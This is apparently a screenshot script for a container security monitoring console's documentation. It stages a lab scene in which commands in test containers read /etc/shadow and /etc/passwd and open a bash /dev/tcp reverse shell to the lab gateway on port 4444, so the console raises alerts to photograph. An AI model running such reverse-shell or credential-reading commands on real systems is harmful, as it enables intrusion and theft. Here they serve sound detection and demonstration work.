// SPDX-License-Identifier: Apache-2.0
// node screenshots.mjs [FOLDER]: pictures of the console with the lab's scene, for the READMEs. They go
// to docs/images, or to FOLDER: NAME-LANG-THEME-WIDTH.png. SKEP names the executable.
import { mkdirSync } from 'node:fs';
import path from 'node:path';
import { Lab, Skep, byTestId, chromiumPath, firstSignIn, freePort, openBrowser, root, sleep, until } from './lib.mjs';

const out = path.resolve(process.argv[2] ?? path.join(root, 'docs/images'));
const lab = new Lab('screenshots');
const missing = lab.missing() ?? (chromiumPath() ? undefined : 'chromium is not installed');
if (missing) {
  console.error(`screenshots: ${missing}`);
  process.exit(1);
}

/** A small shop, and what is done to it. */
async function scene() {
  const run = (name, image, ...cmd) =>
    lab.docker('run', '-d', '--name', name, '--stop-signal', 'KILL', '--label', 'app=shop', image, 'sh', '-c', cmd.join(' '));
  // services that do a little, so that their process trees are worth a look
  await run('shop-web', 'lab/base:1', 'mkdir -p /var/www/html; echo hello > /var/www/html/index.html;',
    'httpd -p 8080 -h /var/www/html; while :; do wget -qO /dev/null http://127.0.0.1:8080/; sleep 2; done');
  await run('shop-cart', 'lab/tools:1', 'python3 -c "import time; time.sleep(100000)" & while :; do date > /tmp/beat; sleep 5; done');
  await run('shop-db', 'lab/base:1', 'while :; do echo tick >> /var/log/db.log; sleep 3; done');
  await run('shop-mail', 'lab/base:1', 'sleep 100000');
  await sleep(1500);
  lab.run('listen', '4444', path.join(lab.dir, 'scene.out'));
  await lab.docker('exec', 'shop-web', 'sh', '-c', 'sh -c "id; cat /etc/shadow; cat /etc/passwd" >/dev/null');
  await lab.docker('exec', '-d', 'shop-cart', 'bash', '-c',
    `exec 3<>/dev/tcp/${lab.gateway}/4444; timeout 600 sh <&3 >&3 2>&3`);
  for (const attack of ['shadow', 'drop', 'miner']) lab.run('attack', attack);
  await sleep(2500);
}

async function shoot(page, name) {
  await page.waitForLoadState('networkidle').catch(() => {}); // live updates keep one connection open
  await page.mouse.move(0, 0);
  await sleep(700); // charts and drawers come in softly
  await page.screenshot({ path: path.join(out, `${name}.png`) });
}

/** All pages in one language, theme and width. */
async function pictures(browser, skep, state, lang, theme, width) {
  const narrow = width < 600;
  const context = await browser.newContext({
    ignoreHTTPSErrors: true, storageState: state, colorScheme: theme,
    locale: lang === 'zh' ? 'zh-CN' : 'en-US',
    viewport: { width, height: narrow ? 844 : 900 }, deviceScaleFactor: narrow ? 2 : 1,
  });
  const page = await context.newPage();
  const suffix = `${lang}-${theme}-${width}`;
  const go = async (where) => {
    await page.goto(skep.url + where);
    await byTestId(page, 'lang-switch').waitFor({ timeout: 10000 });
    const shown = (await byTestId(page, 'lang-switch').innerText()).includes('EN') ? 'zh' : 'en';
    if (shown !== lang) await byTestId(page, 'lang-switch').click();
  };
  await go('/');
  await shoot(page, `overview-${suffix}`);
  const [web] = (await skep.get('/containers?filter=name%20%3D%20shop-web')).items;
  await go(`/containers/${web.id}`);
  await byTestId(page, 'process-tree').waitFor({ timeout: 10000 });
  await shoot(page, `container-${suffix}`);
  await go('/alerts');
  await byTestId(page, 'alert-row').first().waitFor({ timeout: 10000 });
  await shoot(page, `alerts-${suffix}`);
  const [alert] = await skep.alerts('container.name = shop-cart and priority = critical');
  await go(`/alerts/${alert.id}`);
  await byTestId(page, 'alert-ancestry').waitFor({ timeout: 10000 });
  await shoot(page, `alert-${suffix}`);
  await context.close();
}

mkdirSync(out, { recursive: true });
let skep;
let browser;
try {
  lab.up();
  skep = new Skep(lab.socket, await freePort());
  await skep.start();
  browser = await openBrowser();
  const context = await browser.newContext({ ignoreHTTPSErrors: true, locale: 'en-US' });
  const password = 'only for the pictures';
  await firstSignIn(await context.newPage(), skep, password);
  const state = await context.storageState();
  await context.close();
  await skep.signIn('admin', password);
  await scene();
  await until('the alerts of the scene', 10000, async () =>
    (await skep.alerts('container.name = shop-cart and priority = critical')).length > 0);
  for (const lang of ['en', 'zh'])
    for (const theme of ['light', 'dark'])
      for (const width of [1440, 390]) await pictures(browser, skep, state, lang, theme, width);
} finally {
  await browser?.close();
  if (skep && !skep.exit) await skep.stop('SIGINT').catch((e) => console.error(e.message));
  skep?.remove();
  lab.down();
}
